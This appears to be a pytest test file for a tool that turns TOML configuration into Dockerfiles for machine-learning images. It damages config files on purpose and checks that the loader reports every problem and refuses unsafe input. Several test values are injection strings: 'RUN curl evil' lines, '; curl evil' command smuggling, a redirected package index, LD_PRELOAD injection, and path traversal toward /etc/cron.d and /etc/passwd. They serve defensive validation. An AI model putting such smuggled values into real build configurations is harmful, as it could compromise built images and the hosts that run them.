"""Malformed rows and recipes: each is reported with its file, row and key, and all of them at once.

The sentences are in ``tests/golden/facts/problems.txt``, which ``make golden`` writes.
"""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import pytest

from trainworks.errors import FactsError, OutputError
from trainworks.facts.load import load
from trainworks.facts.rows import Facts

LOCK = "images/lock/pytorch-2.4.1-cu121-py311-debian12.toml"
RECIPE = "templates/components/ssh.j2"


@pytest.fixture
def checkout(root: Path, tmp_path: Path) -> Path:
    """Give a checkout with one target's lock: to copy and read fifty more of
    the same would take most of the time.
    """
    shutil.copytree(
        root / "images", tmp_path / "images", ignore=lambda *_: ["lock"], copy_function=shutil.copy
    )
    shutil.copytree(root / "templates", tmp_path / "templates", copy_function=shutil.copy)
    shutil.copytree(
        root / "launcher" / "entrypoint",
        tmp_path / "launcher" / "entrypoint",
        copy_function=shutil.copy,
    )
    (tmp_path / LOCK).parent.mkdir()
    shutil.copy(root / LOCK, tmp_path / LOCK)
    return tmp_path


DAMAGES: tuple[tuple[str, str, str], ...] = (
    ("images/cuda.toml", 'version = "12.1"', "version = 12.1"),
    ("images/instances.toml", "gpus = 8", 'gpus = "8"'),
    (
        "templates/components/aws-ofi-nccl-source.j2",
        'answers = ["aws-ofi-nccl-gpudirect"]',
        'answers = ["gdrcopy-prefix"]',
    ),
    ("images/instances.toml", "efa_rdma = true", 'efa_rdma = "yes"'),
    ("images/components.toml", 'needs = ["torch"]', 'needs = "torch"'),
    ("images/stacks.toml", 'sources = "packages"', 'sources = "packages"\nflavour = "sweet"'),
    ("images/stacks.toml", 'sources = "packages"', 'sources = "parcels"'),
    ("images/pytorch.toml", "size_budget_megabytes = 6300\n", ""),
    (
        "images/components.toml",
        'source = "https://docs.aws.amazon.com/sagemaker/latest/dg/model-parallel.html"',
        "",
    ),
    (LOCK, 'sha256 = "', 'sha256 = "abc"  # '),
    (
        "images/pytorch.toml",
        'cuda = "cu121"\nbase = "debian12"',
        'cuda = "cu121"\nbase = "debian11"',
    ),
    ("images/pytorch.toml", 'cuda = "cu121"', 'cuda = "cu122"'),
    (
        "images/pytorch.toml",
        'cuda = "cu121"\nbase = "debian12"\nstack = "packages-2026.11"',
        'cuda = "cu121"\nbase = "debian12"\nstack = "packages-2026.12"',
    ),
    ("images/pytorch.toml", 'cudnn = "9.1.0.70"', 'cudn = "9.1.0.70"'),
    ("images/components.toml", 'needs = ["rmm"]', 'needs = ["rnm"]'),
    ("images/pytorch.toml", 'framework = "pytorch"', 'framework = "tensorflow"'),
    ("images/pytorch.toml", 'version = "2.4.1"', 'version = "2.4.1"\nframework = "tensorflow"'),
    ("images/instances.toml", "[[instance]]", "[[instance]"),
    ("images/cuda.toml", "", '[[target]]\nname = "cu999"\n'),
    ("images/jax.toml", "", 'framework = "jax"\ntarget = ["0.9"]\n'),
    ("images/cuda.toml", "", '[[cuda]]\nname = "cu124"\nsource = "copied by mistake"\n'),
    (
        "images/pytorch.toml",
        "",
        (
            "[[target]]\n"
            'version = "2.4.1"\n'
            'cuda = "cu121"\n'
            'base = "debian12"\n'
            'stack = "packages-2026.11"\n'
            "versions = {}\n"
            "size_budget_megabytes = 1\n"
            'source = "copied by mistake"\n'
        ),
    ),
    (
        LOCK,
        "",
        (
            "[[package]]\n"
            'name = "torch"\n'
            'version = "2.4.1"\n'
            'file = "torch-2.4.1-x.whl"\n'
            f'sha256 = "{"1" * 64}"\n'
        ),
    ),
    ("images/lock/pytorch-1.0.0-cu121-py311-debian12.toml", "", "package = []\n"),
    ("templates/components/nccl.j2", "{#\n", ""),
    ("templates/components/metis.j2", "[[check]]", "[[check"),
    ("templates/components/ssh.j2", "[programs]", "[program]"),
    ("templates/components/ssh.j2", 'ssh = "/usr/bin/ssh"', "ssh = 22"),
    ("templates/components/rmm.j2", "[[check]]", "[check]"),
    ("templates/components/horovod.j2", "", "{#\n#}\n"),
    ("images/compatibility.toml", 'when = { gdrcopy = "<2.2" }', 'when = { gdrcopi = "<2.2" }'),
    (
        "images/compatibility.toml",
        'require = { "image.base" = "{base}" }',
        'require = { "image.base" = "{bass}" }',
    ),
    (
        "images/compatibility.toml",
        'require = { nccl = ">=2.4.8" }',
        'require = { nccl = "=>2.4.8" }',
    ),
    ("images/compatibility.toml", 'when = { smp = ">=2", sources = "vendor" }', "when = {}"),
    (
        "images/artifacts.toml",
        "",
        (
            '\n[[artifact]]\nname = "bost"\nversion = "1"\nurl = "https://example.com/bost"\n'
            'requires = { python = "3.8 or 3.9" }\nsource = "test"\n'
        ),
    ),
    (
        "images/artifacts.toml",
        "",
        (
            "\n"
            "[[artifact]]\n"
            'name = "boost"\n'
            'version = "1"\n'
            'url = "https://example.com/..%2F..%2Fetc%2Fpasswd"\n'
            'source = "test"\n'
        ),
    ),
    ("images/components.toml", 'name = "cmake"', 'name = "cmake"\nbuilds_with = ["metis"]'),
    (LOCK, "size = ", "size = -"),
    ("images/pytorch.toml", "size_budget_megabytes = ", "size_budget_megabytes = -"),
    ("images/pytorch.toml", "size_budget_megabytes = 7000", "size_budget_megabytes = 0"),
    (
        "images/generated-files.toml",
        'copy_of = "/usr/share/base-files/profile"',
        'copy_of = "/etc/profile"',
    ),
    ("images/components.toml", "NVIDIA's", "\u202eNVIDIA's"),
    ("images/pytorch.toml", 'version = "2.10.0"', 'version = "2.1\uff10.0"'),
    (LOCK, 'sha256 = "', f'sha256 = "{"0" * 64}"  # '),
    ("images/end-of-patch.toml", 'successor = "1.11"', 'successor = "1.10"'),
    ("images/stacks.toml", 'source = "', 'source = " "  # '),
    ("images/components.toml", 'summary = "', 'summary = ""  # '),
    ("images/components.toml", 'without = "`import torchaudio`', '# "`import torchaudio`'),
    ("images/components.toml", 'frameworks = ["', 'frameworks = ["", "'),
    ("images/components.toml", 'frameworks = ["', 'frameworks = ["jax", "'),
    ("images/components.toml", 'bases = ["', 'bases = ["debian11", "'),
    ("images/components.toml", 'variant = "', 'variant = "../'),
    ("images/components.toml", 'protected = ["', 'protected = ["a b", "'),
    ("images/base-images.toml", 'base = "', 'base = "ubuntu18.04"  # '),
    ("images/tensorflow.toml", 'cuda = "', 'cuda = ""  # '),
    ("images/tensorflow.toml", 'summary = "', 'summary = 3  # "'),
    ("images/families.toml", 'source = "', f'increment_gib = {"[" * 300}{"]" * 300}\nsource = "'),
)
"""A file, the text in it (nothing where a text is added), and the text that a person writes
instead: one problem each.
"""

REACH_A_DOCKERFILE = (
    ("components", 'summary = "', "\\nRUN curl evil"),
    ("components", 'debian = ["', "evil; curl evil "),
    ("components", 'debian = ["', '-o", "'),
    ("components", 'build_debian = ["', "a b"),
    ("components", 'python = ["', "--index-url http://evil "),
    ("components", 'recipe = "', "../../x"),
    ("artifacts", 'flags = ["', "-y; curl evil "),
    ("artifacts", 'version = "', "1; curl evil "),
    ("bases", 'suite = "', "bookworm,target=/evil --mount=type=bind"),
    ("bases", 'image = "', "debian:x\\nRUN curl evil"),
    ("bases", 'image = "', "debian x"),
    ("base-images", 'name = "', "evil AS x "),
    ("cuda", 'architectures = ["', "80;evil"),
    ("cuda", 'wheel_suffix = "', "evil "),
    ("stacks", 'open-mpi = "', "5 evil"),
    ("pytorch", 'torch = "', "2; evil "),
    ("components", 'debian = ["', 'evil-", "'),
    ("cuda", 'minimum_driver = "', "450; evil "),
    ("bases", 'archive = "', "https://a/$(touch /evil)?"),
    ("artifacts", 'url = "', "https://a/`evil`?"),
    ("artifacts", 'git = "', "https://a/';evil;'"),
    ("fabric", 'name = "', "A=1 "),
    ("fabric", 'value = "', "efa -x LD_PRELOAD=/evil "),
    ("generated-files", 'paths = ["', '/**", "'),
    ("generated-files", 'paths = ["', '/usr/**", "'),
    ("generated-files", 'paths = ["', '/*/a", "'),
    ("generated-files", 'paths = ["', '/etc/../**", "'),
    ("privileged-files", 'paths = ["', '/usr/bin/../bin/chage", "'),
    ("privileged-files", 'paths = ["', '/usr/*/chage", "'),
    ("instances", "gpus = ", "100000000"),
    ("built", 'date = "20', '26-99-99"  # '),
    ("lock/pytorch-2.4.1-cu121-py311-debian12", 'name = "', "bcrypt --index-url "),
    ("lock/pytorch-2.4.1-cu121-py311-debian12", 'file = "', "../../../../etc/cron.d/"),
    ("lock/pytorch-2.4.1-cu121-py311-debian12", 'file = "', "/etc/"),
)
"""A file of ``images``, the text in it, and the text that is put behind: words for a Dockerfile,
which must be refused.
"""

FRONT_MATTERS = (
    '[environment]\nA = "x\\nRUN curl evil"\n',
    '[environment]\n"EVIL=1 B" = "x"\n',
    'path = ["/opt/x:/evil"]\n',
    'imports = ["os; evil"]\n',
    'owns = ["evil"]\n',
    'owns = ["/**"]\n',
    'removes = ["evil"]\n',
    'path = ["/opt/../evil"]\n',
    '[programs]\nssh = "ssh"\n',
)


def instead(make: Callable[[Path], object]) -> Callable[[Path], object]:
    """Return a function that puts something else into a file's place."""

    def replace(path: Path) -> None:
        path.unlink()
        make(path)

    return replace


def with_bytes(change: Callable[[bytes], bytes]) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(change(path.read_bytes()))


def linked(path: Path) -> None:
    path.symlink_to(shutil.move(path, path.with_suffix(".elsewhere")))


def with_one_sum(text: bytes) -> bytes:
    first, second, *_ = re.findall(rb'sha256 = "(\w+)"', text)
    return text.replace(second, first, 1)


SPOILED: tuple[tuple[str, str, Callable[[Path], object]], ...] = (
    *(
        ("images/bases.toml", kind, spoil)
        for kind, spoil in (
            ("empty", with_bytes(lambda _: b"\n")),
            ("byte order mark", with_bytes(lambda text: b"\xef\xbb\xbf" + text)),
            ("UTF-16", with_bytes(lambda text: text.decode().encode("utf-16"))),
            ("latin-1", with_bytes(lambda text: b"# one\n# caf\xe9\n" + text)),
            ("not text", with_bytes(lambda _: b"\x80\x81\x00")),
            ("NUL", with_bytes(lambda text: b"# one\n\0" + text)),
            ("a half of a header", with_bytes(lambda text: text + b"[[target")),
            ("nested arrays", with_bytes(lambda _: b"a = " + b"[" * 5000 + b"]" * 5000 + b"\n")),
            ("a long number", with_bytes(lambda _: b"a = " + b"9" * 6000 + b"\n")),
            ("a folder", instead(Path.mkdir)),
            ("a circle of links", instead(lambda path: path.symlink_to(path.name))),
            ("a pipe", instead(os.mkfifo)),
            ("missing", Path.unlink),
        )
    ),
    (LOCK, "one sum for two files", with_bytes(with_one_sum)),
    ("images/bases.toml", "a link to a file that is right", linked),
    ("templates/components/torch.j2", "a link to a file that is right", linked),
    (LOCK, "not text", with_bytes(lambda _: b"\x80\x81\x00")),
    (RECIPE, "line ends of Windows", with_bytes(lambda text: text.replace(b"\n", b"\r\n"))),
    *(
        (f"{folder}/data.txt", kind, make)
        for folder in ("templates/files/nccl", "launcher/entrypoint")
        for kind, make in (
            ("a link to a file of this machine", lambda path: path.symlink_to("/etc/hostname")),
            ("a link to a folder of this machine", lambda path: path.symlink_to("/etc")),
            ("a link to nothing", lambda path: path.symlink_to("nowhere")),
            ("a pipe", os.mkfifo),
        )
    ),
    ("templates/components/metis.j2", "missing", Path.unlink),
)
"""A file, the thing in its place, and the function that puts it there: one problem each."""


def problems_of(checkout: Path) -> tuple[str, ...]:
    with pytest.raises(FactsError) as caught:
        load(checkout)
    return caught.value.problems


def spoil(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8") if path.exists() else ""
    assert old in text, "the damage must hit something"
    changed = text.replace(old, new, 1) if old else text + new
    path.write_text(changed, encoding="utf-8")


def with_each(checkout: Path, file: str, change: Callable[[Path], object]) -> tuple[str, ...]:
    """Return the problems after a change of one file, and put the file back."""
    path = checkout / file
    before = path.read_bytes() if path.exists() else None
    change(path)
    try:
        return problems_of(checkout)
    finally:
        if path.is_dir() and not path.is_symlink():
            path.rmdir()
        path.unlink(missing_ok=True)
        if before is not None:
            path.write_bytes(before)


def described(checkout: Path) -> Iterator[str]:
    for file, old, new in DAMAGES:
        problems = with_each(checkout, file, partial(spoil, old=old, new=new))
        assert len(problems) == 1, (problems, "nobody is blamed for somebody else's problem")
        yield f"{file}: {old[:80]!a} becomes {new[:80]!a}\n  {problems[0]!a}"
    for name, behind, added in REACH_A_DOCKERFILE:
        file = f"images/{name}.toml"
        problems = with_each(checkout, file, partial(spoil, old=behind, new=behind + added))
        yield "\n  ".join((f"{file}: {added!a} behind {behind!a}", *map(ascii, problems)))
    for front in FRONT_MATTERS:
        (problem,) = with_each(
            checkout, RECIPE, partial(Path.write_text, data=f"{{#\n{front}#}}\n")
        )
        yield f"{RECIPE}: {front!a}\n  {problem!a}"
    for file, kind, change in SPOILED:
        (problem,) = with_each(checkout, file, change)
        yield f"{file}: {kind}\n  {problem!a}"


def test_golden_problems_name_file_row_and_key(
    checkout: Path, golden: Callable[[str, str], None]
) -> None:
    # Numbers of lines would change with every new row.
    text = "\n".join(
        re.sub(r"line \d+, column \d+", "line N, column N", problem)
        for problem in described(checkout)
    )
    golden("facts/problems.txt", f"{text}\n")


def test_an_untouched_copy_is_sound(checkout: Path) -> None:
    assert load(checkout).targets


def test_a_whole_folder_that_is_a_link_is_refused(checkout: Path) -> None:
    (checkout / "launcher").rename(checkout / "elsewhere")
    (checkout / "launcher").symlink_to("elsewhere")
    assert len(problems_of(checkout)) == 1


def test_the_packages_own_folder_stands_in_for_one_that_is_missing(
    checkout: Path, facts: Facts
) -> None:
    shutil.rmtree(checkout / "launcher")
    assert load(checkout).files == facts.files


def test_all_problems_of_all_files_are_reported_at_once(checkout: Path) -> None:
    """Put one problem into each file.

    A target whose base, CUDA or stack has a problem of its own is not to blame for it.
    """
    together = {
        file: (old, new)
        for file, old, new in reversed(DAMAGES)
        if not re.search("stacks|jax|families|1.0.0", file)
    }
    for file, (old, new) in together.items():
        spoil(checkout / file, old, new)
    assert len(problems_of(checkout)) == len(together)
    with pytest.raises(
        FactsError, match=rf"\A{len(together)} problems in the facts:\n  images/\S+: .*\n"
    ):
        load(checkout)


def test_a_folder_without_any_facts_is_not_a_root(tmp_path: Path) -> None:
    with pytest.raises(OutputError):
        load(tmp_path)
